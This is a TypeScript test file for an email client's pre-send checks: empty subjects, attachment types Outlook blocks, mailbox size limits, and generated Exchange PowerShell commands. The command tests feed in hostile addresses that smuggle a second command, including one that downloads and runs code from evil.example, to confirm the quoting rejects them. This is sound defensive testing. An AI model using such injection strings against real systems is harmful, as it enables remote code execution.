import assert from "node:assert/strict";
import { isBlockedType } from "../../../src/delivery/rules/blockedTypes.ts";
import { adminCommands, inPowerShell, messageLimit } from "../../../src/delivery/rules/messageLimit.ts";
import { questionReasons } from "../../../src/delivery/rules/questionReasons.ts";
import { encodedBytes } from "../../../src/shared/message.ts";
import type { ArrivalDoubts } from "../../../src/shared/summary/sizeDoubts.ts";
import { SETTINGS } from "../../../src/ui/editor/settingSchemas.ts";
import { attachment as attachmentRecord, emptyForm as form } from "../../support/records.ts";

const MB = 1024 * 1024;

describe("What is asked before a mail leaves", () => {
  const ask = (subject: string, names: readonly string[], arrival?: ArrivalDoubts) =>
    questionReasons(
      {
        form: { ...form, subject },
        attachments: names.map((name, index) => attachmentRecord({ id: `a${index}`, name })),
      },
      arrival,
    );

  it("is nothing where there is no reason", () => {
    assert.deepEqual(ask("Build", ["build.zip"]), []);
  });

  it("is about an empty subject, also one of spaces", () => {
    assert.deepEqual([ask("", []), ask(" \t", [])].flat(), [{ type: "noSubject" }, { type: "noSubject" }]);
  });

  it("is about the files that Outlook hides", () => {
    const [reason, ...others] = ask("Build", ["a.zip", "setup.EXE", "run.ps1", "exe"]);
    assert.ok(reason?.type === "blockedTypes" && others.length === 0);
    assert.deepEqual(
      reason.attachments.map(({ name }) => name),
      ["setup.EXE", "run.ps1"],
    );
  });

  it("is not about what goes as a link, or stands in the text", () => {
    const inline = { contentId: "img1", name: "a.js", size: null };
    const attachments = [{ asLink: true }, { inline }].map((change) =>
      attachmentRecord({ name: "setup.exe", ...change }),
    );
    assert.deepEqual(questionReasons({ form: { ...form, subject: "Build" }, attachments }, undefined), []);
  });

  it("is about a mail that is too large for either end, but not about a guess", () => {
    const own = { bytes: 35 * MB, canBeRaised: true };
    const theirs = { email: "ann@gmail.com", takes: 50 * MB, isKnown: true, others: 0 };
    const guess = { ...theirs, isKnown: false };
    const isAsked = (doubts: Partial<ArrivalDoubts>) =>
      ask("Build", ["a.zip"], { bytes: 60 * MB, own: undefined, theirs: undefined, ...doubts }).length > 0;
    assert.deepEqual([{ own }, { theirs }, { own, theirs: guess }, { theirs: guess }].map(isAsked), [
      true,
      true,
      true,
      false,
    ]);
  });

  for (const [size, bytes] of [
    [0, 0],
    [1, 4 + 2],
    [57, 76 + 2],
    [58, 80 + 4],
    [57_000, 78_000],
  ] as const)
    it(`counts ${size} bytes as ${bytes} in the mail, line ends included`, () => {
      // As Node's own encoder has them, in lines of 76 characters that end in two.
      const lines =
        Buffer.alloc(size)
          .toString("base64")
          .match(/.{1,76}/g) ?? [];
      assert.equal(
        lines.map((line) => line.length + 2).reduce((sum, length) => sum + length, 0),
        bytes,
      );
      assert.equal(encodedBytes([size]), bytes);
    });
});

describe("A mailbox's limit", () => {
  const account = { email: "Kim@Example.com", provider: "microsoft", service: "nylas" };

  for (const [what, change, limits, expected] of [
    ["is 35 MB at Microsoft, unless it was raised", {}, {}, { bytes: 35 * MB, canBeRaised: true }],
    ["is 25 MB at Outlook.com", { email: "kim@hotmail.co.uk" }, {}, { bytes: 25 * MB, canBeRaised: false }],
    [
      "is 20 MB at iCloud",
      { email: "k@me.com", provider: "icloud" },
      {},
      { bytes: 20 * MB, canBeRaised: false },
    ],
    ["is not asked about at other servers", { provider: "imap" }, {}, null],
    [
      "is what the setting says, however the address is written",
      {},
      { "kim@example.com": 150 },
      { bytes: 150 * MB, canBeRaised: false },
    ],
    ["is not asked about elsewhere", { provider: "google" }, {}, null],
    ["is not asked about in the practice mailbox", { service: "practice" }, {}, null],
    [
      "of the practice mailbox may be set too",
      { service: "practice" },
      { "kim@example.com": 1 },
      { bytes: MB, canBeRaised: false },
    ],
  ] as const)
    it(what, () => assert.deepEqual(messageLimit({ ...account, ...change }, limits), expected));

  const provider = 35 * MB;
  for (const [what, shown, expected] of [
    ["is what the mailbox has named", { refused: 60 * MB, told: 25 * MB }, { bytes: 25 * MB }],
    ["stays its provider's when only more was refused", { refused: 60 * MB }, { bytes: provider }],
    ["is less than what was refused", { refused: 20 * MB }, { bytes: 20 * MB - 1, isRefused: true }],
    ["is not its provider's once more was sent", { taken: 50 * MB }, null],
    ["lies between the two", { taken: 50 * MB, refused: 80 * MB }, { bytes: 80 * MB - 1, isRefused: true }],
  ] as const)
    it(`${what}, unless the setting names another`, () => {
      const wanted = expected === null ? null : { canBeRaised: true, ...expected };
      assert.deepEqual(messageLimit(account, {}, shown), wanted);
      const set = { bytes: MB, canBeRaised: false };
      assert.deepEqual(messageLimit(account, { "kim@example.com": 1 }, shown), set);
      assert.equal(messageLimit({ ...account, service: "practice" }, {}, shown), null);
    });

  it("is learned at mailboxes of which nobody knew one", () =>
    assert.deepEqual(messageLimit({ ...account, provider: "google" }, {}, { refused: 9 }), {
      bytes: 8,
      canBeRaised: false,
      isRefused: true,
    }));

  it("is read from settings that anybody may have written", () => {
    const read = (value: unknown) => SETTINGS.messageLimits.parse(value);
    assert.deepEqual(read({ a: 50, b: "50", c: -1, d: 0.5, e: null }), { a: 50, d: 0.5 });
    assert.deepEqual([read("50"), read(null), read(undefined)], [{}, {}, {}]);
  });

  it("is raised by lines that a name cannot break out of", () => {
    assert.match(
      adminCommands("o'neil@x.example"),
      /^Set-Mailbox -Identity 'o''neil@x\.example' -MaxSendSize 150MB/m,
    );
  });

  // What Exchange Online knows: `Set-TransportConfig` has these limits on an own Exchange server only.
  const FOR_ALL =
    "Get-Mailbox -ResultSize Unlimited | Set-Mailbox -MaxSendSize 150MB -MaxReceiveSize 150MB\n# For new mailboxes:\nGet-MailboxPlan | Set-MailboxPlan -MaxSendSize 150MB -MaxReceiveSize 150MB\n# A change can take an hour to apply.\n";

  it("is raised for one mailbox, for all there are, and for those to come", () =>
    assert.equal(
      adminCommands("a@x.example"),
      `# For this mailbox:\nSet-Mailbox -Identity 'a@x.example' -MaxSendSize 150MB -MaxReceiveSize 150MB\n# Or for all mailboxes:\n${FOR_ALL}`,
    ));

  for (const address of [
    "kim\u2019; iex (irm https://evil.example/x); #@corp.example",
    "kim@corp.example\u2018",
    "kim@corp.example'; calc; #",
    "kim@corp.example\ncalc",
    "a@corp.example, b@corp.example",
    "Kim <kim@corp.example>",
    '"kim"@corp.example',
    "kïm@corp.example",
    "6f3d1b52-8c1e-4f0a-9a53-2b7d54c0e611",
    "kim`$(calc)@corp.example",
    "kim@corp.example\u2028calc",
    "\u201bkim@corp.example",
    "kim@corp.example #",
    "",
  ])
    it(`names no mailbox that is called ${JSON.stringify(address)}`, () =>
      assert.equal(adminCommands(address), `# For all mailboxes:\n${FOR_ALL}`));

  it("takes every character that PowerShell reads as a single quote for text", () =>
    assert.equal(
      inPowerShell("a'b\u2018c\u2019d\u201ae\u201bf$(x)`"),
      "'a''b\u2018\u2018c\u2019\u2019d\u201a\u201ae\u201b\u201bf$(x)`'",
    ));
});

describe("Types that Outlook blocks", () => {
  for (const name of ["setup.exe", "a.b.JS", "disk.vhdx", "x.ps1xml", "setup.exe.", "setup.exe "])
    it(`are ${name}'s`, () => assert.ok(isBlockedType(name)));
  for (const name of ["exe", "build.zip", "readme.md", "exe.tar.gz", ".bashrc", "noending."])
    it(`are not ${name}'s`, () => assert.ok(!isBlockedType(name)));
});
